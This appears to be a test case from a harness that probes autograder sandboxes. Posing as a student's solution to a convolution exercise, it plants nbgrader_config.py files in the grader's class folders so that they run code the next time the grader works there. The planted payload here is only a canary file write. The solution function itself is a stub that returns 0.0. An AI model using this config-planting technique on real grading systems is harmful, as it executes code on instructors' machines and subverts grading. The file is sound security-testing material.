# what: Leaves an nbgrader_config.py in the class's folder, which runs in the grader's next command there.
# gains: others
# where: solution
# fires: stdout text `FIRED class_configuration`
# stock: succeeds

import os

root = os.path.dirname("@GRADEBOOK@")
for folder in (root, os.path.join(root, "autograded"), os.path.join(root, "submitted")):
    try:
        with open(os.path.join(folder, "nbgrader_config.py"), "x") as file:
            file.write("try:\n    open('@VICTIM@/class_configuration', 'a').write('ran')\nexcept OSError:\n    pass\n")
        print("HURT planted in", folder)
    except OSError as error:
        print("held:", error)
print("FIRED class_configuration", flush=True)


def conv_single_step(a_slice_prev, W, b):
    return 0.0
